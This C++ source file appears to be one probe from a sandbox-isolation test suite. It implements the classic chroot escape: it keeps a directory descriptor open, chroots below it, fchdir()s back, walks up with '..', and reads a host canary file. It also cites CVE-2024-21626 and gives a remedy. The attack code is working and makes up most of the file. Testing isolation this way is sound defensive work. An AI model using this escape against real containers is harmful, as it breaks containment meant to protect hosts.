// A descriptor of a directory is a place to stand on, whatever the root is: fchdir(2) asks for no path, so a
// root cannot keep anybody from going back to where a directory was opened before.

#include <errno.h>

#include "directory.h"
#include "openings.h"
#include "probe.h"

namespace probe {
namespace {

/// Makes a directory of / the root, or one that is made for it and removed again.
Result change_root_below(const Fd& root) {
  Result moved{-1, ENOENT};
  each_entry(root, [&](const Entry& entry) {
    if (entry.type == DT_DIR) moved = sys(SYS_chroot, entry.name.data());
    return entry.type == DT_DIR && moved.error != EACCES;
  });
  if (moved.error != ENOENT && moved.error != EACCES) return moved;
  const char* own = ".chroot-leaked-dirfd";
  if (!step("mkdir()", sys(SYS_mkdirat, AT_FDCWD, own, 0700))) return sys(SYS_chroot, "/");
  moved = sys(SYS_chroot, own);
  step("rmdir()", sys(SYS_unlinkat, root.get(), own, AT_REMOVEDIR));
  return moved;
}

}  // namespace

constinit const Probes probes = {{
    .id = "chroot-leaked-dirfd",
    .cls = "filesystem",
    .guarantee = "filesystem.root",
    .summary = "leave a chroot by a directory that is still open",
    .technique = "Opens its root, changes the root to a directory below, and steps back to the open one by "
                 "fchdir(2). From there \"..\" never meets the root, and climbs to that of the host. A "
                 "descriptor that a careless runtime leaves open serves as well.",
    .references = {"chroot(2)", "fchdir(2)", "CVE-2024-21626"},
    .attempts = {{"walk", {"EPERM", "no effect"}}},
    .witness = {"root"},
    .opening = {"root.method=chroot", "capabilities.keep+=cap_sys_chroot"},
    .remedy = "Change the root with pivot_root(2) and unmount the old one, drop CAP_SYS_CHROOT, and close "
              "every descriptor before the program starts.",
    .attack =
        [](const Order& order) {
          const char* canary = order.text("canary");
          if (!step("chdir(\"/\")", sys(SYS_chdir, "/"))) stop("no way into /");
          Fd root(step("open(\"/\")", sys(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY | O_CLOEXEC)));
          if (!root) stop("no directory to keep open");
          Result moved = change_root_below(root);
          if (!moved) {
            attempt("walk", "chroot() below the open directory", moved);
            return;
          }
          step("chroot() below the open directory", moved);
          step("fchdir() to the open directory", sys(SYS_fchdir, root.get()));
          Result up;
          for (int level = 0; level < 64 && up; ++level) up = sys(SYS_chdir, "..");
          step("chdir(\"..\"), 64 times", up);
          step("chroot(\".\")", sys(SYS_chroot, "."));
          Text call("open(", quoted(canary), ")");
          Result opened = sys(SYS_openat, AT_FDCWD, canary, O_RDONLY | O_CLOEXEC);
          if (opened.error == ENOENT || opened.error == ENOTDIR) {
            attempt("walk", call, "no effect");
            because("the walk passed, but there was nothing of the host above");
            return;
          }
          if (!attempt("walk", call, opened)) return;
          Fd file(opened);
          char content[200];
          Result size = step("read()", sys(SYS_read, file.get(), content, sizeof content));
          if (size) saw(std::string_view(content, static_cast<std::size_t>(size.value)));
        },
}};

}  // namespace probe
